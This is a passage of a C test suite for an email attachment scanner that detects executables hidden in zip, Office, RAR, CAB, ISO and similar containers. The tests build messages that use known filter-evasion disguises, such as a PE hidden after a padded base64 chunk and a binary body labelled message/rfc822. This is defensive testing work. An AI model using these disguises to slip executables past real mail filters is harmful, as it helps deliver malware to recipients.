               c->case_name, p->found_type, p->executable, p->why ? p->why : "(null)",
               (p->flags & USC_PAYLOAD_LIBMAGIC) != 0, p->members ? p->members->len : 0, c->found ? c->found : "(any)",
               c->executable, c->why ? c->why : "(null)", c->libmagic, c->member ? c->member : "-");
    char *d = usc_payload_describe (p);
    g_assert_true (g_utf8_validate (d, -1, NULL));
    g_free (d);
    usc_payload_free (&p);
    g_assert_null (p);
    g_byte_array_unref (b);
  }
  usc_payload_free (NULL);
}

/* Cut every structured buffer at every length up to 300 bytes and at a
 * few larger ones: never a crash, an overread (ASan) or a hang. */
static void
test_truncated (void)
{
  GByteArray *(*makers[]) (void) = { mk_zip_exe, mk_docm, mk_rar4, mk_rar5, mk_cab, mk_tgz, mk_iso, mk_fat_img,
                                     mk_ole_vba, mk_pdf_objstm, mk_pe, mk_ps_utf16 };
  for (guint i = 0; i < G_N_ELEMENTS (makers); i++) {
    GByteArray *b = makers[i] ();
    for (gsize n = 0; n <= b->len; n += n < 300 ? 1 : 997) {
      guint8 *copy = n ? g_memdup2 (b->data, n) : g_malloc (1);
      UscPayload *p = usc_payload_sniff (copy, n, "application/octet-stream", "x.bin");
      g_assert_nonnull (p->found_type);
      usc_payload_free (&p);
      g_free (copy);
    }
    g_byte_array_unref (b);
  }
}

/* A zip whose members are more than the list keeps: counted, bounded. */
static void
test_many_members (void)
{
  ZipIn in[100];
  char names[100][16];
  for (guint i = 0; i < 100; i++) {
    g_snprintf (names[i], sizeof names[i], "f%03u.txt", i);
    in[i] = (ZipIn) { names[i], (const guint8 *) "x\n", 2, FALSE, FALSE };
  }
  in[99].name = "zz.exe";
  GByteArray *z = zip (in, 100);
  UscPayload *p = usc_payload_sniff (z->data, z->len, "application/zip", "many.zip");
  g_assert_true (p->executable); /* the executable beyond the listed members still counts */
  g_assert_cmpuint (p->members->len, ==, USC_PAYLOAD_MAX_MEMBERS);
  g_assert_cmpuint (p->members_total, ==, 100);
  g_assert_nonnull (strstr (p->why, "holding zz.exe"));
  usc_payload_free (&p);
  g_byte_array_unref (z);
}

static GMimeMessage *
parse (const char *s)
{
  GMimeStream *st = g_mime_stream_mem_new_with_buffer (s, strlen (s));
  GMimeParser *ps = g_mime_parser_new_with_stream (st);
  GMimeMessage *m = g_mime_parser_construct_message (ps, NULL);
  g_object_unref (ps);
  g_object_unref (st);
  g_assert_nonnull (m);
  return m;
}

/* The first leaf (or message part) of @m's body that is not text/plain. */
static GMimeObject *
second_part (GMimeMessage *m)
{
  GMimeObject *body = g_mime_message_get_mime_part (m);
  g_assert_true (GMIME_IS_MULTIPART (body));
  return g_mime_multipart_get_part (GMIME_MULTIPART (body), 1);
}

/* base64 split after a padded chunk: GMime's filter stops at the pad, GLib
 * goes on; the PE behind it is found. */
static void
test_base64_resumed (void)
{
  GByteArray *p = pe ();
  char *b64 = g_base64_encode (p->data, p->len);
  char *msg = g_strdup_printf ("From: a@example.net\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n"
                               "Content-Type: text/plain\n\nsee attached\n--b\nContent-Type: text/plain; name=readme.txt\n"
                               "Content-Disposition: attachment; filename=readme.txt\nContent-Transfer-Encoding: base64\n\n"
                               "VGhhbmsgeW91Lg==\n%s\n--b--\n", b64);
  GMimeMessage *m = parse (msg);
  GMimeObject *part = second_part (m);
  g_assert_true (usc_payload_wanted (part));
  /* GMime's own decoder stops at the pad */
  GByteArray *gm = usc_mime_part_content (part, 0);
  g_assert_cmpuint (gm->len, ==, 10);
  g_byte_array_unref (gm);
  gsize resumed = 0;
  GByteArray *all = usc_payload_part_bytes (part, 0, &resumed);
  g_assert_cmpuint (resumed, ==, 10);
  g_assert_cmpuint (all->len, ==, 10 + p->len);
  g_assert_cmpmem (all->data + 10, p->len, p->data, p->len);
  g_byte_array_unref (all);
  UscPayload *pl = usc_payload_of_part (part);
  g_assert_nonnull (pl);
  g_assert_true (pl->executable);
  g_assert_true (pl->flags & USC_PAYLOAD_B64_RESUMED);
  g_assert_cmpstr (pl->found_type, ==, "application/vnd.microsoft.portable-executable");
  g_assert_nonnull (strstr (pl->why, "base64 goes on after a padded chunk (GMime stops at byte 10)"));
  usc_payload_free (&pl);
  /* an ordinary base64 part is not "resumed" */
  g_object_unref (m);
  g_free (msg);
  msg = g_strdup_printf ("From: a@example.net\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n"
                         "Content-Type: text/plain\n\nx\n--b\nContent-Type: application/octet-stream\n"
                         "Content-Transfer-Encoding: base64\n\n%s\n--b--\n", b64);
  m = parse (msg);
  all = usc_payload_part_bytes (second_part (m), 0, &resumed);
  g_assert_cmpuint (resumed, ==, 0);
  g_assert_cmpmem (all->data, all->len, p->data, p->len);
  g_byte_array_unref (all);
  g_object_unref (m);
  g_free (msg);
  g_free (b64);
  g_byte_array_unref (p);
}

/* message/rfc822 whose body is binary is a disguise; one that is a message
 * is no payload. */
static void
test_binary_rfc822 (void)
{
  GByteArray *p = pe ();
  char *b64 = g_base64_encode (p->data, p->len);
  char *msg = g_strdup_printf ("From: a@example.net\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n"
                               "Content-Type: text/plain\n\nx\n--b\nContent-Type: message/rfc822\n"
                               "Content-Transfer-Encoding: base64\n\n%s\n--b--\n", b64);
  GMimeMessage *m = parse (msg);
  UscPayload *pl = usc_payload_of_part (second_part (m));
  g_assert_nonnull (pl);
  g_assert_true (pl->executable);
  g_assert_cmpstr (pl->found_type, ==, "application/vnd.microsoft.portable-executable");
  g_assert_cmpstr (pl->why, ==, "a binary body (application/vnd.microsoft.portable-executable) declared message/rfc822: a PE executable");
  usc_payload_free (&pl);
  g_object_unref (m);
  g_free (msg);
  msg = g_strdup ("From: a@example.net\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n"
                  "Content-Type: text/plain\n\nx\n--b\nContent-Type: message/rfc822\n\n"
                  "From: b@example.org\nSubject: hi\nMessage-ID: <1@example.org>\n\nhello\n--b--\n");
  m = parse (msg);
  g_assert_null (usc_payload_of_part (second_part (m)));
  g_object_unref (m);
  g_free (msg);
  g_free (b64);
  g_byte_array_unref (p);
}

/* Which leaves are sniffed: non-text always, text only as an attachment. */
static void
test_wanted (void)
{
  GMimeMessage *m = parse ("From: a@example.net\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n"
                           "Content-Type: text/plain\n\nbody\n--b\nContent-Type: text/html\n\n<p>x</p>\n--b\n"
                           "Content-Type: text/plain\nContent-Disposition: attachment\n\nfile\n--b\n"
                           "Content-Type: application/pdf\n\n%PDF-1.4\n--b--\n");
  GMimeMultipart *mp = GMIME_MULTIPART (g_mime_message_get_mime_part (m));
  g_assert_false (usc_payload_wanted (g_mime_multipart_get_part (mp, 0)));
  g_assert_false (usc_payload_wanted (g_mime_multipart_get_part (mp, 1)));
  g_assert_true (usc_payload_wanted (g_mime_multipart_get_part (mp, 2)));
  g_assert_true (usc_payload_wanted (g_mime_multipart_get_part (mp, 3)));
  g_assert_false (usc_payload_wanted (NULL));
  g_object_unref (m);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_mime_init ();
  g_test_add_func ("/payload/table", test_table);
  g_test_add_func ("/payload/truncated", test_truncated);
  g_test_add_func ("/payload/many-members", test_many_members);
  g_test_add_func ("/payload/base64-resumed", test_base64_resumed);
  g_test_add_func ("/payload/binary-rfc822", test_binary_rfc822);
  g_test_add_func ("/payload/wanted", test_wanted);
  int rc = g_test_run ();
  g_mime_shutdown ();
  return rc;
}
